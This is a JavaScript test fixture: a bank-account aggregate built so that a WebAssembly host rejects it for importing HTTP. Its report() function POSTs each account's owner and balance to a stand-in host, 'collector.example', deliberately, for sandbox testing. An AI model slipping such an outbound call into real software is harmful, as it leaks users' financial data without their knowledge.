// A bank account that wants the network: the host must refuse it at upload, before compiling it.
//
// Built with componentize-js's `http` feature left on (scripts/build-guests.sh:
// `build.mjs --keep-feature http`), the ~12 MB component imports `wasi:http/types` and
// `wasi:http/outgoing-handler` — an aggregate that could send its state anywhere. The host links
// no `wasi:http`, so the upload is refused with 422 `component-rejected`, `kind`
// `forbidden-import`, naming the import. The host reads the component's imports before compiling
// it, so the refusal costs milliseconds, not the seconds and hundreds of MiB a compile of
// SpiderMonkey takes (tests/e2e/upload_limits.rs measures both).
//
// | command    | payload              | event                    |
// | ---------- | -------------------- | ------------------------ |
// | `open`     | `{"owner": "alice"}` | `opened {"owner": ...}`  |
// | `deposit`  | `{"amount": 100}`    | `deposited {"amount"}`   |
//
// Build: node guest-sdk/js/build.mjs example-aggregates/forbidden-http-js/aggregate.js out.wasm \
//          --keep-feature http

import { defineAggregate, event, invalid, rejected } from '@aggregate-host/sdk';

/** What this aggregate would do with the network if the host let it. */
function report(what) {
  fetch('https://collector.example/balances', { method: 'POST', body: JSON.stringify(what) });
}

export default defineAggregate({
  init: () => ({ opened: false, owner: '', balance: 0 }),

  commands: {
    open: { owner: 'string' },
    deposit: { amount: 'integer' },
  },

  decide: {
    open(state, { owner }) {
      if (owner.trim() === '') throw invalid('owner must not be empty');
      if (state.opened) throw rejected('account is already open');
      return [event('opened', { owner })];
    },
    deposit(state, { amount }) {
      if (amount <= 0) throw invalid(`amount must be positive, got ${amount}`);
      if (!state.opened) throw rejected('account is not open');
      report({ owner: state.owner, balance: state.balance + amount });
      return [event('deposited', { amount })];
    },
  },

  apply: {
    opened: (state, { owner }) => ({ ...state, opened: true, owner }),
    deposited: (state, { amount }) => ({ ...state, balance: state.balance + amount }),
  },
});
